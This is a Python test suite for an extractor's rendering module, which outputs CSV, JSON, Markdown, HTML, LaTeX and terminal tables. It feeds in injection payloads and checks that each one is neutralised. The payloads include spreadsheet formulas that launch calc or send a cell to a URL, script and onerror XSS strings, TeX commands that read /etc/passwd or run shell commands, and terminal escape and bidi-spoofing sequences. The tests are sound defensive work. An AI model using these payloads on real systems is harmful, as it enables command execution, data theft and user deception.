import csv
import io
import json
import math
import re
import sys
import unicodedata
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from extractor.rendering import (
    FORMATS,
    ShownPaper,
    by_columns,
    plain,
    shortened,
    shown_json,
    shown_paper,
    terminal_table,
    without_control_codes,
)

# Texts of characters that some format reads, and of any others.
ODD = st.text(
    st.sampled_from("=+-@|;,'\"\t\n\r\\{}[]()<>&%$#_^~*`!:/.w \x00\x1b\x85\x9b\u200b\u2028\u202e\ufeff\uff1d")
    | st.characters(),
    max_size=20,
)
ESCAPES = "\x1b[31mred\x07\x9b2J\u202e"


@dataclass
class Rows:
    """Rows held in memory."""

    columns: tuple[str, ...]
    rows: list[tuple[Any, ...]]

    def __iter__(self):
        return iter(self.rows)


def one(value):
    return Rows(("value",), [(value,)])


def csv_cell(value):
    return csv_cells(one(value))[1][0]


def csv_cells(rows):
    return list(csv.reader(io.StringIO("".join(FORMATS["csv"].lines(rows)))))


def terminal(rendered, width=200):
    shown = io.StringIO()
    Console(file=shown, width=width, color_system=None).print(rendered)
    return shown.getvalue()


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["=", "+", "-", "@", "tab", "return"])
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert csv_cell(f"{start}cmd|'/c calc'!A1").startswith("'")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org?x="&A1,"here")',
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "\x1b=1+1",
        "'=1+1",
        '"=1+1"',
        "\u201c=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "\t=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\u2028=1+1",
        "\t1",
        "\r1",
        "-5",
        "+3.2e4",
        "-",
    ],
)
@pytest.mark.parametrize("name", ["csv", "tsv"])
def test_nothing_in_a_text_hides_a_formula(name, text):
    lines = "".join(FORMATS[name].lines(Rows((text, "b"), [(text, 1)])))
    cells = list(csv.reader(io.StringIO(lines), delimiter="\t" if name == "tsv" else ","))
    assert [len(row) for row in cells] == [2, 2]
    assert cells[0][0] == cells[1][0]
    assert cells[1][0].startswith("'")


@pytest.mark.parametrize("text", ["a=b", "3-4", "mail@example.org", "TideNet+", "'quoted'", " text"])
def test_a_harmless_text_stays_as_it_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-5, "-5"), (-0.25, "-0.25"), (93.2, "93.2"), (10**20, "1" + "0" * 20), (1e-7, "1e-07"), (0, "0")],
    ids=["negative", "negative fraction", "fraction", "large", "small", "zero"],
)
def test_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell
    assert float(csv_cell(value)) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (["a", "b"], '["a", "b"]'),
        ({"a": [1, None]}, '{"a": [1, null]}'),
        ([date(2026, 1, 2)], '["2026-01-02"]'),
        (date(2026, 1, 2), "2026-01-02"),
        (Decimal("-1.50"), "-1.50"),
        (-timedelta(days=1), "'-1 day, 0:00:00"),
        ('say "hi", you\nthere', 'say "hi", you\nthere'),
        ("数据 😀", "数据 😀"),
    ],
    ids=[
        "none",
        "true",
        "false",
        "list",
        "struct",
        "list of dates",
        "date",
        "decimal",
        "negative span of time",
        "quotes and lines",
        "other scripts",
    ],
)
def test_a_csv_cell_reads_back(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "text", ["two\rlines", "two\r\nlines", "\nfirst line empty"], ids=["CR", "CRLF", "LF"]
)
def test_the_end_of_a_line_within_a_cell_ends_no_row(text):
    rows = csv.reader(io.StringIO("".join(FORMATS["csv"].lines(Rows(("a", "b"), [(text, 1)]))), newline=""))

    assert [len(row) for row in rows] == [2, 2]


def test_a_csv_line_is_a_row_below_the_names():
    rows = Rows(("name", "value"), [("TideNet", 93.2), ("a,b", None)])

    assert list(FORMATS["csv"].lines(rows)) == ["name,value\n", "TideNet,93.2\n", '"a,b",\n']


def test_csv_holds_no_control_codes():
    assert not set("".join(FORMATS["csv"].lines(one(ESCAPES)))) & set("\x1b\x07\x9b\u202e")


@given(st.lists(st.text() | st.integers() | st.floats(allow_nan=False), min_size=1, max_size=4))
def test_every_csv_line_has_as_many_cells_as_there_are_columns(values):
    rows = Rows(tuple(f"c{n}" for n in range(len(values))), [tuple(values)])

    assert {
        len(line) for line in csv.reader(io.StringIO("".join(FORMATS["csv"].lines(rows)), newline=""))
    } == {len(values)}


@given(ODD)
def test_no_text_starts_like_a_formula(text):
    cell = next(csv.reader(io.StringIO(list(FORMATS["csv"].lines(one(text)))[1], newline="")), [""])

    assert not (cell and cell[0].lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "\r")))


@given(ODD)
def test_a_text_of_csv_reads_back_but_for_its_apostrophe_and_control_codes(text):
    cell = csv_cell(text)

    assert cell.removeprefix("'").replace("\n", " ").replace("\t", " ").split() == (
        plain(text).removeprefix("'").split()
    )


# ---------------------------------------------------------------- JSON


@pytest.mark.parametrize(
    "value",
    [None, True, 3, -0.5, 'say "hi"\n=1+1', "数据 😀", ["a", None], {"quote": "x", "items": [{"y": 1}]}],
    ids=["none", "flag", "whole", "fraction", "formula", "other scripts", "list", "nested"],
)
def test_json_and_json_lines_read_back_the_same(value):
    assert json.loads("".join(FORMATS["jsonl"].lines(one(value)))) == {"value": value}
    assert json.loads("".join(FORMATS["json"].lines(one(value)))) == [{"value": value}]


def test_a_json_line_is_a_row():
    rows = Rows(("name", "value"), [("a\nb", 1), ("c", 2)])

    assert list(FORMATS["jsonl"].lines(rows)) == [
        '{"name": "a\\nb", "value": 1}\n',
        '{"name": "c", "value": 2}\n',
    ]


def test_json_is_one_list_however_many_rows_there_are():
    assert "".join(FORMATS["json"].lines(Rows(("n",), [(1,), (2,)]))) == '[\n {"n": 1},\n {"n": 2}\n]\n'


def test_a_date_is_written_as_text_in_json():
    assert json.loads("".join(FORMATS["jsonl"].lines(one(date(2026, 1, 2))))) == {"value": "2026-01-02"}


@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf], ids=["nan", "inf", "-inf"])
def test_a_number_that_json_has_no_word_for_is_null(value):
    def refuse(word):
        raise ValueError(word)

    assert json.loads("".join(FORMATS["jsonl"].lines(one(value))), parse_constant=refuse) == {"value": None}


@pytest.mark.parametrize("name", ["json", "jsonl"])
def test_json_holds_no_raw_escape_codes(name):
    assert not set("".join(FORMATS[name].lines(one(ESCAPES)))) & set("\x1b\x07\x9b\u202e")


@pytest.mark.parametrize("name", ["json", "jsonl"])
@given(ODD)
def test_json_keeps_every_character(name, text):
    read = json.loads("".join(FORMATS[name].lines(Rows((text,), [(text,)]))))

    assert (read if name == "jsonl" else read[0]) == {text: text}


def test_numbers_of_every_kind_are_numbers_in_json():
    value = [Decimal("1.5"), 10**20, 2.5, {"a": Decimal("-0.25")}]

    assert json.loads("".join(FORMATS["jsonl"].lines(one(value)))) == {
        "value": [1.5, 10**20, 2.5, {"a": -0.25}]
    }


def test_a_key_that_is_no_text_becomes_one_in_json():
    assert json.loads("".join(FORMATS["jsonl"].lines(one({date(2026, 1, 2): 1, None: 2})))) == {
        "value": {"2026-01-02": 1, "None": 2}
    }


# ---------------------------------------------------------------- Markdown


@pytest.mark.parametrize("char", list("\\`*_{}[]#|~$@"))
def test_a_character_that_markdown_reads_is_escaped(char):
    assert list(FORMATS["md"].lines(one(f"a{char}b")))[2] == f"| a\\{char}b |\n"


def test_a_markdown_table_has_names_a_rule_and_rows():
    rows = Rows(("name", "value"), [("TideNet", 93.2), (None, True)])

    assert list(FORMATS["md"].lines(rows)) == [
        "| name | value |\n",
        "| --- | --- |\n",
        "| TideNet | 93.2 |\n",
        "|  | yes |\n",
    ]


@pytest.mark.parametrize(("char", "name"), [("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")])
def test_what_html_reads_stands_in_markdown_by_its_name(char, name):
    assert list(FORMATS["md"].lines(one(f"a{char}b")))[2] == f"| a{name}b |\n"


def test_the_numbers_of_a_markdown_table_stand_to_the_right():
    rows = Rows(("name", "value", "none"), [("TideNet", 93.2, None), ("Reed", None, None)])

    assert list(FORMATS["md"].lines(rows))[1] == "| --- | ---: | --- |\n"


@given(st.text(max_size=30))
def test_a_markdown_row_is_always_one_line(text):
    lines = list(FORMATS["md"].lines(Rows(("a", "b"), [(text, text)])))

    assert len(lines) == 3
    assert lines[2].count("\n") == 1


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("http://example.org/a_b", "http\\://example.org/a\\_b"),
        ("see www.example.org", "see www\\.example.org"),
        ("a@example.org", "a\\@example.org"),
    ],
)
def test_an_address_is_made_no_link_in_markdown(text, shown):
    assert list(FORMATS["md"].lines(one(text)))[2] == f"| {shown} |\n"


class Read(HTMLParser):
    """The tags of HTML, and the texts of its cells."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.cells = set(), set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(attrs)
        if tag in ("td", "th"):
            self.cells.append("")

    def handle_data(self, data):
        if self.cells:
            self.cells[-1] += data


def seen(cell):
    return " ".join(cell.split())


@pytest.mark.parametrize(
    "text",
    [
        "[here](javascript:alert(1))",
        "![x](http://example.org/x.png)",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<http://example.org>",
        "&lt;b&gt; &#60;b&#62;",
        "a | b \\| c \\\\| d",
        "`a | b` ``c``",
        "ends in \\",
        "**b** __u__ ~~s~~ *i* _i_",
        "[x]: http://example.org",
        "| --- | --- |",
        "# head",
        "<!-- hidden -->",
        "one\r\n\r\n<b>two</b>\n| three | four |",
    ],
)
def test_what_markdown_or_html_would_read_is_only_text(text):
    rows = Rows((text, "b"), [(text, text)])

    for html in (
        MarkdownIt("commonmark", {"html": True}).enable("table").render("".join(FORMATS["md"].lines(rows))),
        "".join(FORMATS["html"].lines(rows)),
    ):
        read = Read(html)
        assert read.tags <= {"table", "thead", "tbody", "tr", "th", "td", "meta"}
        assert [seen(cell) for cell in read.cells] == [
            seen(plain(text)),
            "b",
            seen(plain(text)),
            seen(plain(text)),
        ]


@given(ODD)
def test_a_cell_of_markdown_reads_back_as_its_text(text):
    markdown = "".join(FORMATS["md"].lines(Rows(("a", "b"), [(text, "end")]), title=text))
    read = Read(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))

    assert [seen(cell) for cell in read.cells] == ["a", "b", seen(plain(text)), "end"]
    assert read.tags <= {"p", "strong", "table", "thead", "tbody", "tr", "th", "td"}


# ---------------------------------------------------------------- HTML


@given(ODD)
def test_a_cell_of_html_reads_back_as_its_text(text):
    read = Read("".join(FORMATS["html"].lines(Rows((text, "b"), [(text, 1)]), title=text)))

    assert [seen(cell) for cell in read.cells] == [seen(plain(text)), "b", seen(plain(text)), "1"]
    assert read.tags == {"meta", "table", "caption", "thead", "tbody", "tr", "th", "td"}
    assert read.attributes == {("charset", "utf-8"), ("style", "text-align: right")}


# ---------------------------------------------------------------- LaTeX


def test_a_latex_table_has_rules_and_numbers_to_the_right():
    rows = Rows(("name", "value"), [("TideNet", -93.2), (None, 5)])

    assert "".join(FORMATS["latex"].lines(rows)) == (
        "\\begin{tabular}{lr}\n\\toprule\nname & value \\\\\n\\midrule\n"
        "TideNet & $-93.2$ \\\\\n & 5 \\\\\n\\bottomrule\n\\end{tabular}\n"
    )


def test_a_latex_table_with_a_title_floats_under_its_caption():
    made = "".join(FORMATS["latex"].lines(one("a"), title="R&D, 100% {x}"))

    assert made.startswith(
        "\\begin{table}\n\\centering\n\\caption{R\\&D, 100\\% \\{x\\}}\n\\begin{tabular}{l}\n"
    )
    assert made.endswith("\\end{tabular}\n\\end{table}\n")


LATEX = {
    "\\textbackslash{}": "\\",
    "\\textasciicircum{}": "^",
    "\\textasciitilde{}": "~",
    "\\textasciigrave{}": "`",
    "\\textless{}": "<",
    "\\textgreater{}": ">",
    "\\textbar{}": "|",
    "\\symbol{34}": '"',
    **{f"\\{char}": char for char in "{}%&#_$"},
    **{f"{{{char}}}": char for char in "[]*"},
    "\\/": "",
}
TOKEN = re.compile("|".join(re.escape(token) for token in LATEX) + r"|[^\\{}%&#_$^~`<>|\"\[\]*\n]")


@given(ODD)
def test_a_cell_of_latex_is_made_of_its_characters_alone(text):
    row = list(FORMATS["latex"].lines(Rows(("a", "b"), [(text, "end")])))[3]
    cell = row.removesuffix(" & end \\\\\n")

    tokens = [found[0] for found in TOKEN.finditer(cell)]
    assert "".join(tokens) == cell
    assert "".join(LATEX.get(token, token) for token in tokens) == plain(text)
    assert not re.search("--|''|,,", cell)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\\input{/etc/passwd}", "\\textbackslash{}input\\{/etc/passwd\\}"),
        ("\\immediate\\write18{id}", "\\textbackslash{}immediate\\textbackslash{}write18\\{id\\}"),
        ("^^5cinput x", "\\textasciicircum{}\\textasciicircum{}5cinput x"),
        ("[3cm] *x", "{[}3cm{]} {*}x"),
        ("a \\\\ & b % c", "a \\textbackslash{}\\textbackslash{} \\& b \\% c"),
        ("$x_1^2$", "\\$x\\_1\\textasciicircum{}2\\$"),
        ("1---2 ''q'' \u201ep\u201c", "1-\\/-\\/-2 '\\/'q'\\/' \u201ep\u201c"),
        ("one\n\n\\par two", "one \\textbackslash{}par two"),
    ],
)
def test_tex_runs_nothing_that_a_paper_says(text, cell):
    assert list(FORMATS["latex"].lines(one(text)))[3] == f"{cell} \\\\\n"


# ---------------------------------------------------------------- plain text and the terminal


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (0.1 + 0.2, "0.3"),
        (1500000.0, "1500000"),
        (93.2, "93.2"),
        (7, "7"),
        (["a", None, 2.0], "a; ; 2"),
        (("a", ["b", "c"]), "a; b; c"),
        ({"a": "ü"}, '{"a": "ü"}'),
        ("two\nlines", "two lines"),
        (ESCAPES, "[31mred2J"),
        ("e\u0301 数 😀", "e\u0301 数 😀"),
    ],
    ids=[
        "none",
        "true",
        "false",
        "rounding",
        "large",
        "fraction",
        "whole",
        "list",
        "nested",
        "struct",
        "lines",
        "control codes",
        "other scripts",
    ],
)
def test_a_value_is_one_line_of_plain_text(value, text):
    assert plain(value) == text


@pytest.mark.parametrize("value", [[ESCAPES], {"a": ESCAPES}], ids=["list", "struct"])
def test_nested_texts_lose_their_control_codes_too(value):
    assert not set(plain(value)) & set("\x1b\x07\x9b\u202e")


@given(st.text())
def test_plain_text_cannot_steer_a_terminal(text):
    codes = {ord(char) for char in plain(text)} - {ord("\t")}

    assert not codes & {*range(0x20), *range(0x7F, 0xA0)}


@pytest.mark.parametrize(("length", "kept"), [(59, 59), (60, 60), (61, 60), (500, 60)])
def test_a_long_text_is_shortened_to_sixty_characters(length, kept):
    assert len(shortened("x" * length)) == kept
    assert shortened("x" * length).endswith("…") == (length > 60)


def test_a_terminal_table_shows_names_and_values():
    shown = terminal(terminal_table(Rows(("name", "value"), [("TideNet", 93.2)]), title="Board"))

    assert [line.split() for line in shown.splitlines() if line.strip(" ─")] == [
        ["Board"],
        ["name", "value"],
        ["TideNet", "93.2"],
    ]


def test_a_terminal_table_leaves_out_empty_and_hidden_columns():
    rows = Rows(("name", "empty", "none", "hidden"), [("TideNet", [], None, "x")])

    shown = terminal(terminal_table(rows, hidden=["hidden"]))

    assert "name" in shown
    assert not any(word in shown for word in ("empty", "none", "hidden"))


def test_a_terminal_table_without_rows_shows_its_names():
    assert "name" in terminal(terminal_table(Rows(("name",), [])))


def test_markup_of_the_terminal_library_is_text():
    markup = "[bold]x[/bold] [link=a]"
    table = terminal_table(Rows((markup,), [(markup,)]), title=markup)

    assert terminal(table).count(markup) == 3


def test_a_terminal_table_holds_no_control_codes():
    table = terminal_table(Rows((ESCAPES,), [(ESCAPES,)]), title=ESCAPES)

    assert not set(terminal(table)) & set("\x1b\x07\x9b\u202e")


@pytest.mark.parametrize(
    "text",
    [
        "\x1b]8;;http://example.org\x07here\x1b]8;;\x07",
        "\x9b2J\x90q\x9c",
        "a\rb\x08c\x7f",
        "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
        "in\u200bvis\u2060ible\ufeff",
        "tag\U000e0041\U000e007f",
    ],
)
def test_nothing_steers_or_hides_in_any_format_but_as_an_escape_of_json(text):
    rows = Rows((text, "b"), [(text, {text: [text]})])
    made = {name: "".join(form.lines(rows, text)) for name, form in FORMATS.items()}
    made["table"] = terminal(terminal_table(rows, title=text))

    for name, written in made.items():
        codes = [char for char in written if unicodedata.category(char) in ("Cc", "Cf")]
        assert set(codes) <= {"\n", "\t"}, name


def test_joiners_stay_where_scripts_and_emoji_need_them():
    assert plain("\u0645\u06cc\u200c\u062e \U0001f469\u200d\U0001f52c") == (
        "\u0645\u06cc\u200c\u062e \U0001f469\u200d\U0001f52c"
    )


def test_rows_that_share_values_are_grouped_in_their_order():
    rows = Rows(("task", "name", "value"), [("a", "x", 1), ("a", "y", 2), ("b", "z", 3)])

    groups = list(by_columns(rows, ["task"]))

    assert [(group.shared, group.columns, list(group)) for group in groups] == [
        (("a",), ("name", "value"), [("x", 1), ("y", 2)]),
        (("b",), ("name", "value"), [("z", 3)]),
    ]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("csv", "name,value\n"),
        ("tsv", "name\tvalue\n"),
        ("jsonl", ""),
        ("json", "[]\n"),
        ("md", "| name | value |\n| --- | --- |\n"),
        (
            "latex",
            "\\begin{tabular}{ll}\n\\toprule\nname & value \\\\\n\\midrule\n\\bottomrule\n\\end{tabular}\n",
        ),
    ],
)
def test_each_format_can_be_empty(name, text):
    assert "".join(FORMATS[name].lines(Rows(("name", "value"), []))) == text


# ---------------------------------------------------------------- one paper


def shown(*, title="On Tides", abstract="TideNet gains 3 points."):
    key = {"extraction_id": "e1", "position": 0, "verified": False, "found_by": "rules"}
    return ShownPaper(
        paper_id="p1",
        title=title,
        abstract=abstract,
        model="some-model",
        provider="openai",
        tables={
            "records": [{**key, "method": "TideNet", "page": None, "unverified_because": []}],
            "datasets": [{**key, "name": "SnowSet", "unverified_because": ["datasets: not in the text"]}],
            "tasks": [{**key, "name": None, "unverified_because": []}],
        },
        evidence=[
            {
                "table_name": "records",
                "position": 0,
                "field_path": "method",
                "match": "exact",
                "text_field": "abstract",
                "start": 0,
                "end": 7,
            },
            {
                "table_name": "datasets",
                "position": 0,
                "field_path": "datasets",
                "match": "none",
                "text_field": None,
                "start": None,
                "end": None,
            },
        ],
    )


def test_a_paper_is_shown_with_each_value_and_where_it_stands():
    lines = terminal(shown_paper(shown())).splitlines()

    assert lines[0] == "On Tides"
    assert "p1, as read by some-model (openai)" in lines
    assert "TideNet gains 3 points." in lines
    assert "  method: TideNet  (exact, abstract 0-7)" in lines
    assert "  name: SnowSet" in lines
    assert "  ! datasets: not in the text" in lines
    assert not any(line.startswith(("tasks", "  page")) for line in lines)


def test_a_shown_paper_holds_no_control_codes():
    made = terminal(shown_paper(shown(title=ESCAPES, abstract="TideNet " + ESCAPES)))

    assert not set(made) & set("\x1b\x07\x9b\u202e")


def test_a_shown_paper_as_json_reads_back():
    made = json.loads(shown_json(shown()))

    assert made["paper_id"] == "p1"
    assert made["tables"]["records"][0]["method"] == "TideNet"
    assert made["evidence"][0]["end"] == 7


def test_no_character_that_is_printed_is_left_out():
    # A text of such alone is not looked through; one with the end of a line is.
    printed = "".join(char for char in map(chr, range(sys.maxunicode + 1)) if char.isprintable())
    assert without_control_codes(f"{printed}\n") == f"{without_control_codes(printed)}\n" == f"{printed}\n"
